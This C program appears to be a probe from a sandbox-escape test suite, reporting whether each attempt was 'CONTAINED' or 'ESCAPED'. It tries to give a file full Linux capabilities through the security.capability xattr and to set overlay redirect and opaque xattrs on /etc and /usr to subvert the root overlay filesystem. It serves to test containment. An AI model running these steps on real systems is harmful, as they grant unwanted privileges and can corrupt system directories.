// @attack: give a program file capabilities (security.capability), and set the xattrs that steer the root's overlay (trusted.overlay.*, or user.overlay.* where the overlay uses those: rootless)
// @language: c_gcc
// @lanes: host rootless
// @contained: 3
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <errno.h>
#include <sys/xattr.h>
static void check(long r, const char *what) { int e = errno; printf("%s %s: %s\n", r < 0 ? "CONTAINED" : "ESCAPED", what, r < 0 ? strerror(e) : "succeeded"); fflush(stdout); }
int main(void) {
	FILE *f = fopen("/tmp/prog", "w"); fputs("x", f); fclose(f);
	// VFS_CAP_REVISION_2 with every capability permitted and effective.
	unsigned int cap[5] = {0x02000001, 0xffffffff, 0, 0xffffffff, 0};
	check(setxattr("/tmp/prog", "security.capability", cap, sizeof cap, 0), "set file capabilities");
	// The overlay's own xattrs are user.* when it is mounted with userxattr;
	// otherwise user.overlay.* is an ordinary xattr the overlay ignores.
	char line[4096]; const char *prefix = "trusted";
	FILE *m = fopen("/proc/self/mountinfo", "r");
	while (fgets(line, sizeof line, m)) if (strstr(line, " / / ") && strstr(line, "userxattr")) prefix = "user";
	char name[64], what[96];
	snprintf(name, sizeof name, "%s.overlay.redirect", prefix); snprintf(what, sizeof what, "set %s on /etc", name);
	check(setxattr("/etc", name, "/", 1, 0), what);
	snprintf(name, sizeof name, "%s.overlay.opaque", prefix); snprintf(what, sizeof what, "set %s on /usr", name);
	check(setxattr("/usr", name, "y", 1, 0), what);
	return 0;
}
